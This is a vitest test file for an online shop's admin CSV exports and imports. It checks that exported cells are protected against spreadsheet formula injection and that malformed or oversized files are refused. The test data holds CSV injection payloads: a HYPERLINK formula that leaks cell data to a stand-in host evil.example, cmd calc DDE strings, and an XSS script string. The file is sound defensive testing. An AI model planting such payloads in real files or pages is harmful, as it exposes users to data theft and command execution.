import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import {
  adminOrderRowToDoc,
  type AdminOrderRow,
} from '../../data/replication/admin-orders-replication'
import {
  importFileError,
  MAX_IMPORT_BYTES,
  MAX_IMPORT_ROWS,
  ordersToCsv,
  parseProductsCsv,
  productsToCsv,
  salesReportToCsv,
  unneutralizeCell,
} from './admin-csv'
import type { AdminProductRow } from './admin-product'

/** OWASP's formula starters, each as someone could type it into a name, a note or an email. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  // papaparse's own escapeFormulae lets these two through: its /^[=+\-@\t\r].*$/ stops at a
  // line break, and a quote someone typed first would be lost on the way back in.
  '=HYPERLINK("https://evil.example/?"&A1,"x")\nsecond line',
  "'=SUM(A1)",
] as const

/** Every cell as a spreadsheet reads the file: how many start with a formula character. */
function formulaCells(csv: string): string[] {
  const { data } = Papa.parse<string[]>(csv, { skipEmptyLines: true })
  return data.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))
}

const cellsOf = (csv: string) =>
  Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data

function orderRow(over: Partial<AdminOrderRow> = {}): AdminOrderRow {
  return {
    id: '1a2b3c4d-0000-4000-8000-000000000001',
    _modified: '2026-11-25T19:00:00.000Z',
    _deleted: false,
    status: 'pending',
    customerName: 'Devon Park',
    customerEmail: 'devon@example.com',
    fulfilment: 'pickup',
    deliveryMethod: 'standard',
    paymentMethod: 'cash',
    subtotal: 40,
    tax: 3.2,
    shipping: 0,
    discount: 0,
    total: 43.2,
    pickupWindow: { start: '2026-11-25T22:00:00.000Z', end: '2026-11-25T22:30:00.000Z' },
    statusHistory: [{ status: 'pending', at: '2026-11-25T19:00:00.000Z', by: null }],
    items: [{ productId: 'p1', name: 'Gummies', unitPrice: 10, quantity: 2, lineTotal: 20 }],
    createdAt: '2026-11-25T19:48:00.000Z',
    ...over,
  }
}

const product = (over: Partial<AdminProductRow>): AdminProductRow => ({
  id: 'p1',
  name: 'Name',
  slug: 'name',
  sku: 'SKU-1',
  description: null,
  price: null,
  original_price: null,
  quantity_available: null,
  is_unlimited_quantity: false,
  is_active: true,
  is_on_sale: false,
  is_featured: false,
  rating: 0,
  review_count: 0,
  thc_percentage: null,
  cbd_percentage: null,
  total_cannabinoids_percentage: null,
  smokeback_percentage: null,
  weight_grams: null,
  is_cannabis: true,
  limit_class: null,
  limit_grams: null,
  thc_mg: null,
  cbd_mg: null,
  servings: null,
  metrc_package_tag: null,
  metrc_unit: null,
  created_at: '2026-11-20T12:00:00.000Z',
  updated_at: '2026-11-20T12:00:00.000Z',
  brand_id: null,
  category_id: null,
  product_type_id: null,
  brand: null,
  category: null,
  product_type: null,
  product_media: [],
  product_effects: [],
  terpene_profiles: [],
  ...over,
})

const noLookups = { brands: [], categories: [], productTypes: [], existing: [] }

describe('no formula leaves the shop in a CSV (OWASP: = + - @ tab CR)', () => {
  it.each(HOSTILE)('Export Orders neutralizes a shopper’s name and email: %j', (text) => {
    const csv = ordersToCsv([
      adminOrderRowToDoc(
        orderRow({
          customerName: text,
          customerEmail: text,
          items: [{ productId: null, name: text, unitPrice: 1, quantity: 1, lineTotal: 1 }],
        }),
      ),
    ])
    expect(formulaCells(csv)).toEqual([])
    const [order] = cellsOf(csv)
    expect(order!.customer_name).toBe(`'${text}`)
    expect(order!.customer_email).toBe(`'${text}`)
    // The quote goes in a quoted cell, as OWASP asks.
    expect(csv).toContain(`"'${text.replaceAll('"', '""')}"`)
  })

  it.each(HOSTILE)('Export Products neutralizes every text column: %j', (text) => {
    const csv = productsToCsv([
      product({
        sku: text,
        name: text,
        description: text,
        brand: { id: 'b', name: text },
        category: { id: 'c', name: text },
        product_type: { id: 't', name: text },
        product_effects: [{ id: 'e', effect_name: text }],
        terpene_profiles: [{ id: 't', terpene_name: text, percentage: null }],
        product_media: [
          {
            id: 'm',
            media_url: text,
            media_type: 'image',
            is_primary: true,
            display_order: 0,
          },
        ],
      }),
    ])
    expect(formulaCells(csv)).toEqual([])
    const [row] = cellsOf(csv)
    for (const column of ['sku', 'name', 'description', 'brand', 'category', 'effects', 'media']) {
      expect(row![column]).toBe(`'${text}`)
    }
  })

  it.each(HOSTILE)('the sales report neutralizes a top product’s name: %j', (text) => {
    const csv = salesReportToCsv({
      period: 'Last 30 days',
      totals: { orders: 1, sales: 1, revenue: 20, averageOrderValue: 20 },
      tax: 1.6,
      taxes: { local: 0, excise: 0, sales: 1.6 },
      shipping: 0,
      discount: 0,
      byStatus: [{ label: 'Pending', count: 1 }],
      top: [{ name: text, quantity: 2, revenue: 20 }],
    })
    expect(formulaCells(csv)).toEqual([])
    expect(csv).toContain(`"'${text.replaceAll('"', '""')}",2,20.00`)
    expect(csv.split('\r\n')[0]).toBe('metric,value')
  })

  it('leaves figures our code writes from numbers as numbers, and text that looks like one not', () => {
    // A negative figure is a number, not a formula (the database keeps stock and prices >= 0,
    // so none is written today); a SKU someone typed as "-1" is text and is neutralized.
    const [row] = cellsOf(
      productsToCsv([product({ sku: '-1', price: 12.5, quantity_available: -1, weight_grams: 0 })]),
    )
    expect(row).toMatchObject({ sku: "'-1", price: '12.5', quantity_available: '-1' })
    expect(row!.weight_grams).toBe('0')
    const [order] = cellsOf(ordersToCsv([adminOrderRowToDoc(orderRow())]))
    expect(order).toMatchObject({ customer_name: 'Devon Park', total: '43.20', tax: '3.20' })
  })
})

describe('an exported file reads back to its own text', () => {
  const lookups = {
    brands: [{ id: 'b1', name: '=Brand' }],
    categories: [{ id: 'c1', name: '@Flower' }],
    productTypes: [{ id: 't1', name: '-Type' }],
    existing: [{ id: 'p1', sku: '+SKU-1' }],
  }

  it('undoes exactly the quote the export added', () => {
    for (const text of HOSTILE) expect(unneutralizeCell(`'${text}`)).toBe(text)
    expect(unneutralizeCell("'plain")).toBe("'plain")
    expect(unneutralizeCell('=SUM(A1)')).toBe('=SUM(A1)')
  })

  it('round-trips formula characters, quotes, commas, line breaks and markup', () => {
    const description = '=1+1\nsecond line, with "quotes"\r\nand a third'
    const csv = productsToCsv([
      product({
        sku: '+SKU-1',
        name: '=HYPERLINK("https://evil.example/?"&A1,"x")',
        description,
        price: 12.5,
        brand: { id: 'b1', name: '=Brand' },
        category: { id: 'c1', name: '@Flower' },
        product_type: { id: 't1', name: '-Type' },
        product_effects: [
          { id: 'e1', effect_name: '=Happy' },
          { id: 'e2', effect_name: 'Calm, "sleepy"' },
        ],
        terpene_profiles: [{ id: 't', terpene_name: '-Myrcene', percentage: 0.4 }],
      }),
      product({
        id: 'p2',
        sku: 'NEW-2',
        name: "'=SUM(A1)",
        description: '<img src=x onerror=alert(1)><script>alert(2)</script>',
        product_media: [
          {
            id: 'm',
            media_url: '@seed/flower-1.png',
            media_type: 'image',
            is_primary: true,
            display_order: 0,
          },
        ],
      }),
    ])
    const { rows, fileErrors } = parseProductsCsv(csv, lookups)
    expect(fileErrors).toEqual([])
    expect(rows.map((r) => r.errors)).toEqual([[], []])
    expect(rows[0]).toMatchObject({ action: 'update', existingId: 'p1', sku: '+SKU-1' })
    expect(rows[0]!.payload).toMatchObject({
      sku: '+SKU-1',
      name: '=HYPERLINK("https://evil.example/?"&A1,"x")',
      description,
      price: 12.5,
      brand_id: 'b1',
      category_id: 'c1',
      product_type_id: 't1',
      effects: ['=Happy', 'Calm, "sleepy"'],
      terpenes: [{ name: '-Myrcene', percentage: 0.4 }],
    })
    expect(rows[1]!.payload).toMatchObject({
      name: "'=SUM(A1)",
      description: '<img src=x onerror=alert(1)><script>alert(2)</script>',
      media: [expect.objectContaining({ media_url: '@seed/flower-1.png' })],
    })
  })

  it('stores a formula typed into an imported file as text, neutralized again on export', () => {
    const { rows } = parseProductsCsv(
      'sku,name,media\r\n-SKU,"=HYPERLINK(""https://evil.example/?""&A1,""x"")",a.png',
      noLookups,
    )
    expect(rows[0]!.errors).toEqual([])
    const { sku, name } = rows[0]!.payload
    expect({ sku, name }).toEqual({
      sku: '-SKU',
      name: '=HYPERLINK("https://evil.example/?"&A1,"x")',
    })
    const [again] = cellsOf(productsToCsv([product({ sku, name })]))
    expect(again).toMatchObject({ sku: "'-SKU", name: `'${name}` })
  })
})

describe('Import Products with hostile files', () => {
  it('reads a file that starts with a byte order mark', () => {
    const { rows, fileErrors } = parseProductsCsv('\uFEFFsku,name,media\nX-1,Haze,a.png', noLookups)
    expect(fileErrors).toEqual([])
    expect(rows[0]).toMatchObject({ sku: 'X-1', name: 'Haze', errors: [] })
  })

  it('marks a row whose unquoted comma shifts its cells', () => {
    const { rows } = parseProductsCsv('sku,name,price,media\nX-1,Haze, Purple,12,a.png', noLookups)
    expect(rows[0]!.errors).toContain(
      '5 cells for 4 columns; a cell with a comma must be in double quotes',
    )
  })

  it('refuses a file with a quoted cell that is never closed', () => {
    const { rows, fileErrors } = parseProductsCsv(
      'sku,name,media\nX-1,Haze,a.png\nX-2,"Kush,b.png\nX-3,Diesel,c.png',
      noLookups,
    )
    expect(rows).toEqual([])
    expect(fileErrors).toEqual([
      'A quoted cell on line 3 is never closed: a cell that starts with " must end with "',
    ])
  })

  it(`refuses more than ${MAX_IMPORT_ROWS} rows, the server's limit, without a row each`, () => {
    const lines = ['sku,name,media']
    for (let i = 0; i < 100_000; i++) lines.push(`S-${i},Name ${i},a.png`)
    const { rows, fileErrors } = parseProductsCsv(lines.join('\n'), noLookups)
    expect(rows).toEqual([])
    expect(fileErrors).toEqual([
      `The file has more than ${MAX_IMPORT_ROWS} product rows; Import Products takes at most ${MAX_IMPORT_ROWS} at once. Split it into smaller files.`,
    ])
  })

  it('reads a full file of the server’s size', () => {
    const lines = ['sku,name,media']
    for (let i = 0; i < MAX_IMPORT_ROWS; i++) lines.push(`S-${i},Name ${i},a.png`)
    const { rows, fileErrors } = parseProductsCsv(lines.join('\n'), noLookups)
    expect(fileErrors).toEqual([])
    expect(rows).toHaveLength(MAX_IMPORT_ROWS)
    expect(rows.every((r) => r.errors.length === 0)).toBe(true)
  })

  it('refuses a 50 MB or empty file before reading it', () => {
    expect(importFileError({ size: 50 * 1024 * 1024 })).toBe(
      'The file is 50.0 MB; Import Products reads files of up to 4.0 MB (5000 products). Split it into smaller files.',
    )
    expect(importFileError({ size: 0 })).toBe('The file is empty')
    expect(importFileError({ size: MAX_IMPORT_BYTES })).toBeNull()
  })

  it('refuses a file that is not UTF-8 text', () => {
    // "José" saved as Windows-1252 and decoded as UTF-8; a NUL from a binary file.
    for (const text of ['sku,name\nX-1,Jos\uFFFD', 'sku,name\nX-1,A\0B']) {
      expect(parseProductsCsv(text, noLookups)).toEqual({
        rows: [],
        fileErrors: ['The file is not UTF-8 text. Save it as "CSV UTF-8" and choose it again'],
      })
    }
  })
})
